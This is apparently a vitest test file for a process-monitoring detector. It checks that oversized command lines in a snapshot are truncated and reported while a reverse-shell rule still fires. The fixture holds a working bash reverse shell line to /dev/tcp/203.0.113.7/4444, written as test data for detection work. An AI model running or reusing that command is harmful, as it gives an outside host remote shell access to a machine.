// A snapshot file holding command lines no scan here would keep (10 MB and 100 MB) beside a reverse shell:
// `detect --input` cuts them as a scan cuts (collection.argv.ceiling), names them in one warning line, runs
// every rule and still reports the reverse shell. Before, 10 MB crashed the run ("memory access out of
// bounds", exit 3, no alerts) and 100 MB ran rules out of memory and time (red-team trial 8, F5).
import {writeFileSync} from 'node:fs';
import {join} from 'node:path';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import {snapshotFromRows} from '../../src/detection/fixture-snapshot.js';
import type {Alert} from '../../src/models/alert.js';
import {argvCutMarker} from '../../src/collect/argv-limit.js';
import {cutOverlongArgv} from '../../src/storage/argv-bound.js';
import {loadSqlJs} from '../../src/storage/sqljs.js';
import {isolatedEnv, removeDir, runCli, tempDir} from '../helpers/cli.js';

const dir = tempDir();
const env = isolatedEnv(dir);
afterAll(() => removeDir(dir));

const MB = 1_000_000;
let file: string;

beforeAll(async () => {
  file = join(dir, 'long-argv.db');
  writeFileSync(
    file,
    await snapshotFromRows([
      {pid: 500, ppid: 1, name: 'bash', executable_path: '/usr/bin/bash', command_line: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'], uid: 1000},
      {pid: 501, ppid: 1, name: 'sleep', executable_path: '/usr/bin/sleep', command_line: ['sleep', 'a'.repeat(10 * MB)], uid: 1000},
      {pid: 502, ppid: 1, name: 'sleep', executable_path: '/usr/bin/sleep', command_line: ['sleep', `${'b'.repeat(100 * MB)}z`], uid: 1000},
    ]),
  );
}, 120_000);

describe('detect --input on a file with command lines longer than a scan keeps', () => {
  it('cuts them as a scan does, says which, runs every rule and reports the reverse shell (critical)', async () => {
    const result = await runCli(['detect', '--input', file, '--format', 'json', '--no-audit'], {env, timeoutMs: 180_000});
    expect(result.code, result.stderr.slice(0, 2000)).toBe(0);
    const output = JSON.parse(result.stdout) as {alerts: Alert[]; summary: {failed?: string[]; timed_out?: string[]; not_run?: string[]}};
    expect(output.summary.failed ?? []).toEqual([]);
    expect(output.summary.timed_out ?? []).toEqual([]);
    const reported = (rule: string, pid: number): Alert | undefined => output.alerts.find((a) => a.rule_id === rule && a.affected_processes.includes(pid));
    expect(reported('reverse-shell-command-line', 500)?.severity).toBe('critical');
    // The cut is a scan's: oversized-command-line reports both.
    expect(reported('oversized-command-line', 501)?.severity).toBe('medium');
    expect(reported('oversized-command-line', 502)?.severity).toBe('medium');
    const warnings = result.stderr.split('\n').filter((line) => line.includes('longer than a scan here keeps'));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toContain(file);
    expect(warnings[0]).toMatch(/2 processes hold .*pid 501: command_line 10,000,0\d\d bytes.*pid 502: command_line 100,000,0\d\d bytes/);
  }, 200_000);
});

describe('cutOverlongArgv', () => {
  it('keeps the first and last bytes of the argv with the marker, as the collector does, and writes cmdline again', async () => {
    const SQL = await loadSqlJs();
    const db = new SQL.Database(
      await snapshotFromRows([
        {pid: 1, name: 'bash', command_line: ['bash', '-c', `${'x'.repeat(3000)}\u0001end`]},
        {pid: 2, name: 'sh', command_line: ['sh', 'y'.repeat(1100)]},
        {pid: 3, name: 'sh', command_line: ['sh', 'ok']},
      ]),
    );
    try {
      // pid 3: a cmdline no argv could give (the file's word against its own command_line).
      db.run('UPDATE processes SET cmdline = ? WHERE pid = 3', ['y'.repeat(5000)]);
      const changed = cutOverlongArgv(db, 1000);
      // pid 2: 1,104 bytes of argv, within the ceiling and the room a scan's marker takes: kept whole.
      expect(changed.map((c) => [c.pid, c.total, c.kept])).toEqual([
        [1, 5 + 3 + 3005, 1000],
        [3, 6, 6],
      ]);
      const rows = db.exec('SELECT pid, command_line, cmdline FROM processes ORDER BY pid')[0]?.values ?? [];
      // 500 bytes of head (bash\0-c\0 and 492 x), 500 of tail (495 x, the \x01 byte, end and the final NUL).
      const argv = ['bash', '-c', 'x'.repeat(492), argvCutMarker(3013 - 1000, 3013), `${'x'.repeat(495)}\\x01end`];
      expect(rows[0]).toEqual([1, JSON.stringify(argv), argv.join(' ')]);
      expect(rows[1]).toEqual([2, JSON.stringify(['sh', 'y'.repeat(1100)]), `sh ${'y'.repeat(1100)}`]);
      expect(rows[2]).toEqual([3, '["sh","ok"]', 'sh ok']);
    } finally {
      db.close();
    }
  });
});
